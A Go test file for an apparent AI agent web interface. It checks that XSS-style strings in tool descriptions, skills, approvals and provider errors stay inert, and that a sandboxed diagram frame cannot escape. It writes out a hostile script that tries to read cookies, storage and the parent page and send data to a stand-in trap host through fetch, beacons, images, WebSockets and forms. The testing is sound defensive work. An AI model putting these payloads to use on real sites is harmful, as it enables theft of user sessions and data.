package browser

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/troupe-dev/troupe/internal/corpus"
)

// naughty are the texts of the corpus.
func naughty(t *testing.T) []string {
	t.Helper()
	data, err := os.ReadFile(corpus.Path(t, "attacks/naughty-strings.txt"))
	if err != nil {
		t.Fatal(err)
	}
	var texts []string
	for line := range strings.Lines(string(data)) {
		if line = strings.TrimRight(line, "\r\n"); strings.TrimSpace(line) != "" && !strings.HasPrefix(line, "#") {
			texts = append(texts, line)
		}
	}
	return texts
}

// Where texts come from beside conversations and files: choices, approvals of many pages,
// tools that describe themselves, what a provider complains with, what agents are told,
// and titles that are offered to be read.
func TestTextsAreTextsInEveryOtherField(t *testing.T) {
	t.Parallel()
	forbidden := newTrap(t)
	texts := forbidden.set(slices.Concat(payloads, naughty(t)))
	m := newModel(t)
	whole := strings.Join(texts, "\n")
	scripts := []script{{"Ask before this", []reply{{tool: "write_file", arguments: map[string]any{"file_path": "{session-folder}/guarded.md", "content": whole}}}}}
	for i, part := range slices.Collect(slices.Chunk(texts, 8)) {
		var list strings.Builder
		for n, text := range part {
			fmt.Fprintf(&list, "%d. %.120s: %[2]s\n", n+1, strings.ToValidUTF8(strings.ReplaceAll(text, "\n", " "), ""))
		}
		scripts = append(scripts, script{fmt.Sprintf("Question %d of all", i), []reply{{text: "Which one?\n\n" + list.String()}}})
	}
	m.directed(t, scripts...)
	file := filepath.Join(t.TempDir(), "tools.json")
	describe := func(prefix string) {
		tools := map[string]string{}
		for i, text := range texts {
			tools[fmt.Sprintf("tool_%d", i)] = prefix + text
		}
		describeTools(t, file, tools)
	}
	describe("")
	skill := "---\nname: hostile\ndescription: '" + strings.ReplaceAll(texts[0]+" <img src=x onerror=canary(skill)>", "'", "''") + "'\n---\nHow.\n"
	h := serve(t, project(t, map[string]string{"skills/hostile/SKILL.md": skill, "legal.json": legalSchema, "troupe.yaml": strings.Replace(configuration, "URL", m.URL+"/v1", 1) + toolServers(t, map[string]string{"hostile": file})}))
	guarded := h.asks(t, "clerk", "", "Ask before this")
	var asked []string
	for i := range len(scripts) - 1 {
		asked = append(asked, h.asks(t, "critic", "", fmt.Sprintf("Question %d of all: %s", i, texts[i])))
	}
	b := open(t, h.link)
	b.sees(".waits", "")
	b.isInert()
	withChoices := 0
	for _, session := range asked {
		value[any](b, "void (location.hash = '#/s/' + %s)", session)
		b.holds("location.hash.includes(%s) && find('.turn .prose, .asks .asked, .asks .prose') && find('h1') && !find('.bones')", session)
		withChoices += value[int](b, "all('.asks .choice label').length")
		b.isInert()
	}
	if withChoices < 8 {
		t.Errorf("only %d choices were shown", withChoices)
	}

	value[any](b, "void (location.hash = '#/s/' + %s)", guarded)
	b.sees("[aria-label=Approval] .pages", "Page 1 of")
	b.opensAll()
	pages := value[int](b, "parseInt(find('.pages span').innerText.split(' of ')[1])")
	var read strings.Builder
	for i := range pages {
		b.sees(".pages span", fmt.Sprintf("Page %d of %d", i+1, pages))
		read.WriteString(value[string](b, `find("[aria-label='What will be done']").textContent`))
		b.isInert()
		if i < pages-1 {
			b.presses(".pages button", "Next page")
		}
	}
	for _, part := range []string{"canary('script')", "canary('wide')", "__proto__"} { // from beginning to end
		if !strings.Contains(read.String(), part) {
			t.Errorf("the pages of the approval lack %q", part)
		}
	}
	if pages < 3 || read.Len() < len(whole) {
		t.Errorf("%d pages have %d bytes of %d", pages, read.Len(), len(whole))
	}

	b.click(".bar button", "More")
	b.click(".pop button", "Files of other conversations")
	b.holds("find('dialog[open]')")
	b.isInert()
	b.presses("dialog .row button:last-child", "")

	value[any](b, "void (location.hash = '#/settings/mcp')")
	b.sees(".rows", fmt.Sprintf("%d tools", len(texts)))
	describe("Now: ")
	h.post(t, "/api/mcp/hostile/restart", nil)
	value[any](b, "void (location.hash = '#/settings/look')")
	b.holds("find('.set [role=switch]')")
	value[any](b, "void (location.hash = '#/settings/mcp')")
	b.click(".spot-row button", "Look and decide")
	b.holds("all('.change-list').length === %s", len(texts))
	b.isInert()
	value[any](b, "void (location.hash = '#/settings/agents')")
	b.click(".rows button", "What its model is told")
	b.holds("find('.told pre')")
	b.isInert()

	value[any](b, "void (location.hash = '#/settings/skills')")
	b.sees(".rows", "canary(skill)")
	b.isInert()

	// What a provider complains with.
	grudge := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.WriteHeader(http.StatusBadRequest)
		fmt.Fprintf(w, `{"error":{"message":"%s","type":"x","code":"x"}}`, asJSON(whole))
	}))
	t.Cleanup(grudge.Close)
	other := serve(t, project(t, map[string]string{"legal.json": legalSchema, "troupe.yaml": strings.Replace(configuration, "URL", grudge.URL+"/v1", 1)}))
	c := begin(t, other.link, "clerk")
	c.say(whole[:3000])
	c.holds("find('.trouble')")
	c.opensAll()
	c.isInert()
	if n := forbidden.reached.Load(); n > 0 {
		t.Errorf("another host was reached %d times", n)
	}
	t.Logf("%d texts, %d choices, %d pages", len(texts), withChoices, pages)
}

// hostileFrame is what the frame of diagrams runs in place of our own: it tries all that
// a script can try, and says what it could do.
const hostileFrame = `
const done = [];
const attempt = async (name, act) => { try { const result = await act(); if (result) done.push(name + ": " + String(result).slice(0, 80)); } catch {} };
await attempt("cookie", () => { document.cookie = "a=b"; return document.cookie; });
await attempt("storage", () => localStorage.length + 1);
await attempt("session storage", () => sessionStorage.length + 1);
await attempt("databases", () => indexedDB.databases().then(() => "open"));
await attempt("parent's document", () => parent.document.body.innerText);
await attempt("parent's address", () => parent.location.href);
await attempt("canary of the parent", () => parent.canary("from the frame"));
await attempt("navigation of the page", () => { top.location = "TRAP/top"; return "went"; });
await attempt("window", () => window.open("TRAP/window"));
await attempt("API", () => fetch("../api/me").then((r) => r.text()));
await attempt("API, by its whole address", () => fetch(location.origin + "/api/me", { credentials: "include" }).then((r) => r.text()));
await attempt("another host", () => fetch("TRAP/fetch", { mode: "no-cors" }).then(() => "answered"));
await attempt("beacon", () => navigator.sendBeacon("TRAP/beacon", "x") && false);
await attempt("picture", () => new Promise((yes, no) => { const i = new Image(); i.onload = () => yes("loaded"); i.onerror = no; i.src = "TRAP/i.png"; }));
await attempt("module", () => import("TRAP/x.js").then(() => "ran"));
await attempt("eval", () => eval("1 + 1"));
await attempt("worker", () => new Worker("TRAP/w.js") && false);
await attempt("form", () => { const f = document.createElement("form"); f.action = "TRAP/form"; document.body.append(f); f.submit(); return false; });
await attempt("frame", () => { const f = document.createElement("iframe"); f.src = "TRAP/frame"; document.body.append(f); return false; });
await attempt("dialog", () => { alert("x"); return false; });
await attempt("socket", () => new Promise((yes, no) => { const s = new WebSocket("TRAP/ws".replace("http", "ws")); s.onopen = () => yes("open"); s.onerror = no; }));
for (const data of [{ ready: true }, { height: 1e9 }, { failed: "<img src=x onerror=canary('failed')>" + "x".repeat(1e5) }, { report: done }]) parent.postMessage(data, "*");
`

// The frame of diagrams is taken over by whoever attacks: it gets nowhere.
func TestAFrameThatIsTakenOverGetsNowhere(t *testing.T) {
	t.Parallel()
	forbidden := newTrap(t)
	m := newModel(t)
	link := play(t, m).link
	to, err := url.Parse(link)
	if err != nil {
		t.Fatal(err)
	}
	mux := http.NewServeMux()
	mux.Handle("/", &httputil.ReverseProxy{FlushInterval: -1, Rewrite: func(r *httputil.ProxyRequest) {
		r.Out.URL.Scheme, r.Out.URL.Host = "http", to.Host
		r.Out.Host = r.In.Host
	}})
	mux.HandleFunc("/v/{edition}/frame/diagram.js", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/javascript")
		w.Header().Set("Access-Control-Allow-Origin", "*")
		fmt.Fprint(w, strings.ReplaceAll(hostileFrame, "TRAP", forbidden.url))
	})
	front := httptest.NewServer(mux)
	t.Cleanup(func() {
		front.CloseClientConnections()
		front.Close()
	})
	b := newTab(t) // it notes what leaves, which the frame tries; the trap says what arrives
	b.goTo(front.URL + "/#" + to.Fragment)
	b.click(".agent header button", "clerk")
	b.sees(".beginning h2", "clerk")
	value[any](b, "void addEventListener('message', ({ data }) => { if (data?.report) window.report = data.report; })")
	b.say("Draw it")
	m.answers(t, "```mermaid\nflowchart LR\n  A --> B\n```\n")
	b.holds("window.report")
	if report := value[[]string](b, "window.report"); len(report) > 0 {
		t.Errorf("the frame could do:\n%s", strings.Join(report, "\n"))
	}
	b.sees(".fig", "It could not be drawn")
	b.isInert()
	if address := value[string](b, "location.href"); !strings.HasPrefix(address, front.URL) {
		t.Errorf("the page went to %s", address)
	}
	for _, note := range b.notes() {
		if strings.HasPrefix(note, "a script ran") || strings.HasPrefix(note, "a dialog") {
			t.Error(note)
		}
	}
	if n := forbidden.reached.Load(); n > 0 {
		t.Errorf("another host was reached %d times", n)
	}
}
